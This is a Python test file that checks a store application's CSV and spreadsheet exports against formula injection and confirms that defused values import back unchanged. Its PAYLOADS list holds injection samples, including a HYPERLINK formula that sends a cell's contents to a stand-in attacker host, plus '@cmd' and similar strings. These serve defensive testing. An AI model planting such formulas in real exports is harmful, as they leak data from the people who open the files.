"""Issue #14 item 4: every spreadsheet export is formula-safe (the OWASP rule: text starting
with = + - @ tab or CR gets a leading apostrophe; real numbers are left alone), and the
importer reads its own defused exports back as they were."""

import csv
import io
import re

import pytest
from sqlalchemy import select, update

from store.control_chars import from_spreadsheet_cell, spreadsheet_cell
from store.db import Database, make_engine
from store.importer import import_file
from store.importer.export import export_catalog, export_customers, export_orders
from store.metrics.export import discrepancies_csv, orders_csv
from store.models import Base, Customer, Order
from store.periods import period_containing
from tests.support.metrics_desk import WEEK_START, build_desk

PAYLOADS = ['=HYPERLINK("https://evil.example/?leak="&A2,"Click")', "=1+2", "+SUM(1,2)",
            "@cmd", "-2+3", "\tTAB", "\rCR"]
FORMULA = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def unsafe_cells(content: bytes) -> list[str]:
    """Cells a spreadsheet would run as a formula (a negative number is not one)."""
    rows = csv.reader(io.StringIO(content.decode("utf-8"), newline=""))
    return [cell for row in rows for cell in row
            if cell.startswith(FORMULA) and not NUMBER.fullmatch(cell)]


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_formula_gets_an_apostrophe_and_comes_back_as_it_was(text):
    assert spreadsheet_cell(text) == "'" + text
    assert from_spreadsheet_cell(spreadsheet_cell(text)) == text


@pytest.mark.parametrize("value", [-5, 3.5, None, "Acme = best", "O'Neil", "'plain"])
def test_numbers_and_ordinary_text_pass_unchanged(value):
    assert spreadsheet_cell(value) == value
    if isinstance(value, str):
        assert from_spreadsheet_cell(value) == value


def hostile_desk(db) -> None:
    build_desk(db)
    with db.write() as s:
        s.execute(update(Customer).where(Customer.code == "ACME").values(name=PAYLOADS[0]))
        orders = s.scalars(select(Order).order_by(Order.id)).all()
        for order, text in zip(orders, PAYLOADS[1:], strict=False):
            order.ref, order.po_number = text, text


def test_the_report_csvs_are_formula_safe(db):
    hostile_desk(db)
    week = period_containing("weekly", WEEK_START)
    orders = orders_csv(db, period=week, timezone="UTC").content
    assert unsafe_cells(orders) == []
    assert "'=1+2" in orders.decode() and "'=HYPERLINK(" in orders.decode()
    assert unsafe_cells(discrepancies_csv(db, period=week, timezone="UTC").content) == []


def test_the_import_contract_exports_are_formula_safe_and_import_back_unchanged(db, tmp_path):
    hostile_desk(db)
    files = {kind: tmp_path / f"{kind}.csv" for kind in ("catalog", "customers", "orders")}
    export_catalog(db, files["catalog"])
    export_customers(db, files["customers"])
    export_orders(db, files["orders"])
    for path in files.values():
        assert unsafe_cells(path.read_bytes()) == [], path.name
    copy = Database(make_engine(f"sqlite:///{tmp_path / 'copy.sqlite3'}"))
    Base.metadata.create_all(copy.engine)
    for kind in ("catalog", "customers", "orders"):
        import_file(copy, kind=kind, path=files[kind])
    with copy.read() as s:
        assert s.scalar(select(Customer.name).where(Customer.code == "ACME")) == PAYLOADS[0]
        refs = set(s.scalars(select(Order.ref)))
    assert {"=1+2", "+SUM(1,2)", "@cmd", "-2+3"} <= refs
